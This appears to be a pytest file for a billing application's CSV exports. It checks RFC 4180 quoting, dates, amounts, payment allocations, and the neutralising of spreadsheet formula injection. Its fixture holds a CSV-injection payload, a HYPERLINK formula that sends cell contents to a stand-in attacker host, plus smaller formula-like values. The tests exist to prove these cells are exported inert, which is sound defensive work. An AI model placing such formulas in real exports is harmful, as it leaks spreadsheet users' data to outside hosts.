"""CSV exports (issue 11 item 4): RFC 4180 with a header row, ISO dates, amounts in major units,
and cells a spreadsheet would run as formulas neutralised (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from desktop import cli
from desktop.services.payments import PaymentService
from desktop.services.spreadsheets import ALIASES, KINDS, neutralised, write_csv
from desktop.storage import models as m
from document_world import change_now_world, last_of_type

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def exported(world, kind: str) -> tuple[str, list[dict]]:
    out = io.StringIO(newline="")
    write_csv(world.db, kind, out, world.clock.today())
    text = out.getvalue()
    return text, list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture
def world():
    world, member, number = change_now_world()
    with world.db.write() as session:
        row = session.get(m.MemberRow, member)
        row.name, row.company = EVIL, "Engines, \"Analytical\"\nLtd"
        row.phone = "+353 1 234"
    PaymentService(world.db, world.clock).record(last_of_type(world, member), 30000,
                                                 method="@card", reference="-SUM(1)")
    return world


def test_a_member_named_like_a_formula_exports_inert(world):
    text, rows = exported(world, "members")
    (ada,) = rows
    assert ada["name"] == "'" + EVIL  # a spreadsheet shows it as text, never runs it
    assert ada["phone"] == "'+353 1 234"
    assert ada["company"] == "Engines, \"Analytical\"\nLtd"  # quoted, not broken into rows
    assert text.startswith("email,name,company,phone,billing_address,vat_id,credit_balance,"
                           "deposit_held,archived\r\n")
    assert '"Engines, ""Analytical""\nLtd"' in text  # RFC 4180 quoting


def test_documents_have_their_type_dates_amounts_in_major_units_and_their_standing(world):
    """Rules 15, 17, 18, 21: every type, the billing date a catch-up keeps, the allocations."""
    text, rows = exported(world, "documents")
    assert text.startswith("type,number,member,billing_date,issue_date,due_date,subtotal,tax,"
                           "total,credit_applied,amount_due,allocated,outstanding,status\r\n")
    assert [(r["type"], r["number"], r["billing_date"], r["issue_date"], r["due_date"])
            for r in rows] == [
        ("invoice", "INV-000001", "2024-04-01", "2024-04-11", "2024-04-25"),
        ("deposit_request", "DEP-000001", "2024-04-01", "2024-04-11", "2024-04-25"),
        ("invoice", "INV-000002", "2024-04-11", "2024-04-11", "2024-04-25"),
        ("deposit_request", "DEP-000002", "2024-04-11", "2024-04-11", "2024-04-25")]
    april, _deposit, change, _shortfall = rows
    # The credit held paid April's invoice (rule 22); the payment paid the change's invoice
    # and the rest went to the oldest open document, April's (rule 21).
    assert (change["subtotal"], change["tax"], change["total"], change["credit_applied"],
            change["amount_due"], change["allocated"], change["outstanding"],
            change["status"]) == (
        "200.00", "40.00", "240.00", "0.00", "240.00", "240.00", "0.00", "paid")
    assert (april["allocated"], april["outstanding"], april["status"]) == (
        "110.00", "130.00", "partly_paid")
    # The older name still names the same table.
    assert exported(world, "invoices") == (text, rows)


def test_document_lines_carry_their_tax_category_and_rate(world):
    text, lines = exported(world, "document-lines")
    assert text.startswith("document,type,position,kind,description,contract,period_start,"
                           "period_end,days,period_days,tax_category,rate,amount\r\n")
    assert [(ln["document"], ln["kind"], ln["tax_category"], ln["rate"], ln["amount"])
            for ln in lines[-3:]] == [
        ("INV-000002", "unused", "standard", "20", "-133.33"),
        ("INV-000002", "plan", "standard", "20", "333.33"),
        ("DEP-000002", "deposit", "", "", "200.00")]  # outside VAT
    assert (lines[-3]["period_start"], lines[-3]["days"], lines[-3]["period_days"]) == (
        "2024-04-11", "20", "30")
    assert exported(world, "invoice-lines") == (text, lines)


def test_payments_say_what_they_allocated_and_what_went_to_credit(world):
    text, (payment,) = exported(world, "payments")
    assert text.startswith("id,date,member,amount,method,reference,allocated,to_credit\r\n")
    assert (payment["amount"], payment["method"], payment["reference"], payment["allocated"],
            payment["to_credit"]) == ("300.00", "'@card", "'-SUM(1)", "300.00", "0.00")


def test_allocations_name_the_payment_or_the_credit_that_paid_each_document(world):
    text, rows = exported(world, "allocations")
    assert text.startswith("payment,payment_date,document,member,method,amount,date\r\n")
    assert [(r["payment"], r["payment_date"], r["document"], r["method"], r["amount"],
             r["date"]) for r in rows] == [
        ("", "", "INV-000001", "credit", "50.00", "2024-04-11"),
        ("1", "2024-04-11", "INV-000002", "payment", "240.00", "2024-04-11"),
        ("1", "2024-04-11", "INV-000001", "payment", "60.00", "2024-04-11")]


def test_a_refund_takes_from_credit(world):
    with world.db.session() as session:
        member = session.query(m.MemberRow).one().id
    payments = PaymentService(world.db, world.clock)
    payments.record_for_member(member, payments.outstanding(member) + 2000)
    payments.refund(member, 500)
    _text, rows = exported(world, "payments")
    assert [(r["amount"], r["allocated"], r["to_credit"]) for r in rows[1:]] == [
        ("450.00", "430.00", "20.00"), ("-5.00", "0.00", "-5.00")]


def test_contracts_export_with_their_status(world):
    _text, rows = exported(world, "contracts")
    assert [(r["plan"], r["status"]) for r in rows] == [("Standard", "cancelled"),
                                                         ("Premium", "active")]


@given(st.text())
def test_no_neutralised_cell_starts_a_formula(text):
    cell = neutralised(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell in (text, "'" + text)


def test_the_command_line_writes_every_kind_and_refuses_an_unknown_one(tmp_path, capsys):
    database = tmp_path / "desk.sqlite3"
    assert cli.main(["demo", "--members", "3", "--db", str(database)]) == 0
    for kind in (*KINDS, *ALIASES):
        target = tmp_path / f"{kind}.csv"
        assert cli.main(["csv", kind, str(target), "--db", str(database)]) == 0
        header = target.read_bytes().split(b"\r\n")[0]
        assert header and b"," in header and header == header.lower()
    capsys.readouterr()
    with pytest.raises(SystemExit) as refused:
        cli.main(["csv", "plans", str(tmp_path / "x.csv"), "--db", str(database)])
    assert refused.value.code == 2
    assert "invalid choice: 'plans'" in capsys.readouterr().err
    assert not (tmp_path / "x.csv").exists()
